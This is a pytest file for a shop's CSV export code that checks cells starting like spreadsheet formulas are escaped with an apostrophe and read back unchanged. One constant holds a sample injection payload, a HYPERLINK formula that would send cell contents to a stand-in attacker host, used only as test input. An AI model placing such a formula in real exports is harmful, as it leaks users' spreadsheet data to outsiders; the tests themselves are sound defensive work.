"""Nothing of an export runs as a formula, and everything comes back as it was."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st

from adapters.feeds.order_csv import OrderCsv
from adapters.feeds.shop_csv import prices_in, stock_in
from adapters.memory import MemoryStore
from app.system_clock import SystemClock
from shopcore.frames import read_price_list
from shopcore.orders.order_rows import OrderRow
from shopcore.spreadsheet_cells import as_text, from_text
from shopcore.use_cases.catalogue.import_catalogue import import_catalogue
from tests.support.exported_catalogues import texts
from tests.support.feeds_shop import csv_of, export_csv, product_of, rows_of
from tests.support.products import a_product

FORMULAS = "=+-@\t\r\n＝＋－＠"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"Price list")'
ROW = OrderRow(
    order_number="1001",
    customer="c",
    storefront=1,
    placed_at=datetime(2026, 11, 21, 12, tzinfo=UTC),
    status="placed",
    method=None,
    delivery_option=None,
    is_collected=False,
    vat_basis_points=2_000,
    kind="goods",
    ex_pence=-500,
    vat_pence=-100,
)


@pytest.mark.parametrize("sign", FORMULAS)
def test_what_begins_like_a_formula_is_made_text(sign: str):
    """With one apostrophe, also where apostrophes stand before it already."""
    for before in ("", "'", "''"):
        assert as_text(f"{before}{sign}1+1") == f"'{before}{sign}1+1"
        assert from_text(f"'{before}{sign}1+1") == f"{before}{sign}1+1"
    assert from_text(f"{sign}1+1") == f"{sign}1+1"


@pytest.mark.parametrize("cell", ["", "'", "Bolt", "12.45", "1-2", "a=b", "'tis", "''", " =1+1", "O'Neill"])
def test_every_other_cell_stays_as_it_is(cell: str):
    """Apostrophes of its own too."""
    assert as_text(cell) == from_text(cell) == cell


@given(st.text(f"{FORMULAS}'1a ", max_size=8) | texts(40))
def test_a_cell_comes_back_as_it_was_and_begins_with_no_formula(cell: str):
    """Whatever it holds."""
    assert from_text(as_text(cell)) == cell
    assert not as_text(cell).startswith(tuple(FORMULAS))


@pytest.mark.parametrize("sku", ["=1+1", "'=1+1", "-HINGE", "@home"])
def test_every_file_of_the_shop_means_the_sku_that_was_exported(tmp_path: Path, sku: str):
    """Catalogue, stock, prices and the price list of an analyst."""
    shop = MemoryStore(SystemClock()).shop()
    import_catalogue(shop, rows_of([a_product(sku=sku, product_id="")]))
    file = tmp_path / "catalogue.csv"
    file.write_bytes(export_csv(shop))
    short = BytesIO(f"sku,stock\n{as_text(sku)},7\n".encode())

    assert product_of(file.read_bytes()).sku == sku
    assert [update.sku for update in stock_in(short)] == [sku]
    assert [update.sku for update in prices_in(BytesIO(file.read_bytes()))] == [sku]
    assert list(read_price_list(file, company=1)["sku"]) == [sku]


def test_a_file_that_makes_no_text_of_its_formulas_means_the_same():
    """As exports were written before, and as people write them by hand."""
    content = csv_of({"sku": "-HINGE", "name": "=1+1"})

    assert (product_of(content).sku, product_of(content).name) == ("-HINGE", "=1+1")


def test_orders_that_name_a_formula_run_nothing():
    """Numbers stay numbers, also below nothing."""
    text = StringIO(newline="")
    OrderCsv(text).add(evolve(ROW, sku="-HINGE", name=LINK, brand="Hob & Tanner"))
    (cells,) = csv.DictReader(StringIO(text.getvalue(), newline=""))

    assert (cells["sku"], cells["name"], cells["brand"]) == ("'-HINGE", f"'{LINK}", "Hob & Tanner")
    assert (cells["ex_pence"], cells["is_collected"]) == ("-500", "false")
    assert from_text(cells["name"]) == LINK
